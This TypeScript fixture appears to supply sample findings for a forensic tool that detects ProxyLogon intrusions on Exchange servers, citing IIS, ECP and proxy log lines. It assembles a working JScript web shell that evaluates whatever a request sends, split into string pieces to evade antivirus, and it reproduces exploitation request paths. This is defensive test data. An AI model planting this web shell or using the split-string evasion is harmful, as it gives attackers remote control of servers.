import type { Finding } from "../../model/index.ts";
import { citationOf, findingOf, hashOf } from "./build.ts";

/** Used by several parts of the sample. */
export const FRONT: string =
  "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy_2021030309-1.LOG";
/** Used by several parts of the sample. */
export const ECP: string =
  "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer20210303-1.LOG";
/** Used by several parts of the sample. */
export const IIS: string = "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log";
/** Used by several parts of the sample. */
export const SHELL: string = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\ogu3zrnt.aspx";
const SHELL_2 =
  "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\resources\\errorFE.aspx";
/** Used by several parts of the sample. */
export const INTRUDER: string = "198.51.100.27";
// In pieces: antivirus programs delete files that hold the whole line.
const SCRIPT = [
  "<scr",
  'ipt language="JSc',
  'ript" runat="ser',
  'ver">function Page_Load(){ev',
  "al(Req",
  'uest["k"],"uns',
  'afe");}</scr',
  "ipt>",
].join("");

/** Twelve findings over two servers, furthest rung first. */
export const FINDINGS: readonly Finding[] = [
  findingOf({
    id: "F1",
    server: "S2",
    kind: "lsass-dump",
    title: "The passwords in memory were written to a file and fetched through the web",
    severity: "critical",
    rung: "L4",
    firstSeen: "2021-03-05T02:31:09.000Z",
    lastSeen: "2021-03-05T02:44:50.000Z",
    count: 3,
    attack: ["T1003.001", "T1560.001"],
    rules: ["proxylogon/lsass-dump-file", "proxylogon/dump-fetched"],
    entities: {
      addresses: [INTRUDER],
      files: ["C:\\inetpub\\wwwroot\\aspnet_client\\compressionmemory.gif"],
      hashes: [hashOf("d")],
    },
    citations: [
      citationOf(
        IIS,
        40211,
        `2021-03-05 02:44:50 10.20.0.12 GET /aspnet_client/compressionmemory.gif - 443 - ${INTRUDER} Mozilla/5.0 - 200 0 0 41250`,
        "2021-03-05T02:44:50.000Z",
      ),
    ],
    why: "A picture file in a web folder holds a Windows cabinet with a memory dump, and the intruder's address fetched it whole (HTTP 200, 38 MB).",
    doubt: "The size in the log counts what was sent; the intruder may have broken off the transfer.",
    next: "Treat every password used on this server since 3 March as known to the intruder. Change them after the clean-up, not before.",
  }),
  findingOf({
    id: "F2",
    server: "S2",
    kind: "web-shell-used",
    title: "A back-door page was called 41 times and answered",
    severity: "critical",
    rung: "L3",
    firstSeen: "2021-03-03T09:21:02.000Z",
    lastSeen: "2021-03-05T02:40:11.000Z",
    count: 41,
    attack: ["T1505.003", "T1059.003"],
    cves: ["CVE-2021-27065"],
    entities: { addresses: [INTRUDER, "203.0.113.80"], files: [SHELL], userAgents: ["antSword/v2.1"] },
    citations: [
      citationOf(
        IIS,
        20117,
        `2021-03-03 09:21:02 10.20.0.12 POST /aspnet_client/system_web/ogu3zrnt.aspx - 443 - ${INTRUDER} antSword/v2.1 - 200 0 0 312`,
        "2021-03-03T09:21:02.000Z",
      ),
      citationOf(
        IIS,
        20164,
        `2021-03-03 09:24:40 10.20.0.12 POST /aspnet_client/system_web/ogu3zrnt.aspx - 443 - ${INTRUDER} antSword/v2.1 - 200 0 0 1288`,
        "2021-03-03T09:24:40.000Z",
      ),
    ],
    why: "The page is no part of Exchange, it was called by POST, and it answered with status 200 after running for up to 1.3 seconds.",
    doubt: "Status 200 says that the page answered, not which command it ran.",
    next: "Look for programs started by the web server at these times in the Security log and in Sysmon.",
  }),
  findingOf({
    id: "F3",
    server: "S2",
    title: "Back-door page in a web folder",
    severity: "critical",
    rung: "L2",
    firstSeen: "2021-03-03T09:14:30.000Z",
    lastSeen: "2021-03-12T17:40:00.000Z",
    attack: ["T1505.003"],
    cves: ["CVE-2021-27065"],
    rules: ["proxylogon/oab-dump-file", "webshells/eval-of-request"],
    entities: { files: [SHELL], hashes: [hashOf("e")] },
    citations: [citationOf(SHELL, 12, `ExternalUrl                     : http://f/${SCRIPT}`)],
    why: "The file is a text dump of an address-book folder's settings whose external URL holds a script that runs whatever it is sent.",
    doubt: "None that we know of: Exchange never writes such a file there.",
    next: "Copy it with its hash, then move it out of the web folder. `postern clean plan` does both and can undo it.",
  }),
  findingOf({
    id: "F4",
    server: "S2",
    title: "Back-door page beside the pictures of the logon page",
    severity: "critical",
    rung: "L2",
    entities: { files: [SHELL_2], hashes: [hashOf("f")] },
    citations: [citationOf(SHELL_2, 1, `<%@ Page Language="C#" %> ...`)],
  }),
  findingOf({
    id: "F5",
    server: "S2",
    kind: "vdir-script-url",
    title: "A script was planted in the address of the offline address book",
    rung: "L2",
    firstSeen: "2021-03-03T09:14:12.000Z",
    lastSeen: "2021-03-03T09:14:12.000Z",
    cves: ["CVE-2021-27065"],
    entities: { users: ["riverside.example\\administrator"], cmdlets: ["Set-OabVirtualDirectory"] },
    citations: [
      citationOf(
        ECP,
        318,
        `2021-03-03T09:14:12.201Z,MX02,ECP.Request,S:TIME=188;S:SID=8b1c;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/${SCRIPT}'.Identity='5f2e'`,
        "2021-03-03T09:14:12.201Z",
      ),
    ],
    why: "The command sets an external URL that is no URL but a script. `S:EX` is empty: Exchange accepted it.",
  }),
  findingOf({
    id: "F6",
    server: "S2",
    kind: "vdir-reset",
    title: "The virtual directory was reset, which writes the planted text to a file",
    rung: "L2",
    firstSeen: "2021-03-03T09:14:30.000Z",
    cves: ["CVE-2021-27065"],
    entities: { addresses: [INTRUDER] },
    citations: [
      citationOf(
        FRONT,
        911,
        `2021-03-03T09:14:30.114Z,77c0,15,1,2106,2,,Ecp,mail.riverside.example,/ecp/y.js,,,,,,,${INTRUDER},MX01,200,200,,POST,Proxy,mx02.riverside.local,,ServerInfo~a]@MX02.riverside.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#`,
        "2021-03-03T09:14:30.114Z",
      ),
    ],
  }),
  findingOf({
    id: "F7",
    kind: "ssrf-session",
    title: "A stranger was given an administrator's session",
    severity: "critical",
    rung: "L1",
    firstSeen: "2021-03-03T09:12:44.000Z",
    cves: ["CVE-2021-26855"],
    entities: { addresses: [INTRUDER], urls: ["/ecp/y.js"], userAgents: ["ExchangeServicesClient/0.0.0.0"] },
    citations: [
      citationOf(
        FRONT,
        874,
        `2021-03-03T09:12:44.310Z,51aa,15,1,2106,2,,Ecp,mail.riverside.example,/ecp/y.js,,,,,,,${INTRUDER},MX01,241,241,,POST,Proxy,mx02.riverside.local,,ServerInfo~a]@MX02.riverside.local:444/ecp/proxyLogon.ecp?#`,
        "2021-03-03T09:12:44.310Z",
      ),
    ],
    why: "An unauthenticated request was passed to the back end and answered with status 241, which only a new session gives.",
    next: "Count everything from this minute on as seen by the intruder.",
  }),
  findingOf({
    id: "F8",
    kind: "ssrf-ews",
    title: "Mail was asked for through the same hole",
    rung: "L1",
    firstSeen: "2021-03-03T09:40:00.000Z",
    lastSeen: "2021-03-03T10:02:00.000Z",
    count: 212,
    cves: ["CVE-2021-26855"],
  }),
  findingOf({
    id: "F9",
    kind: "ssrf-autodiscover",
    title: "Probes that asked for a valid address",
    severity: "low",
    confidence: "medium",
    rung: "L0",
    firstSeen: "2021-02-27T22:05:10.000Z",
    lastSeen: "2021-03-03T09:12:01.000Z",
    count: 63,
    cves: ["CVE-2021-26855"],
    entities: { addresses: [INTRUDER, "192.0.2.144"] },
  }),
  findingOf({
    id: "F10",
    kind: "scanner",
    title: "Scans by a vendor",
    severity: "info",
    confidence: "medium",
    rung: "L0",
    count: 18,
  }),
  findingOf({
    id: "F11",
    kind: "shell-names",
    title: "Somebody guessed names of back doors and found none",
    severity: "low",
    rung: "L0",
    count: 144,
  }),
  findingOf({
    id: "F12",
    server: "S2",
    kind: "quarantined-file",
    title: "A back-door file lies in the antivirus quarantine",
    severity: "medium",
    confidence: "medium",
  }),
];
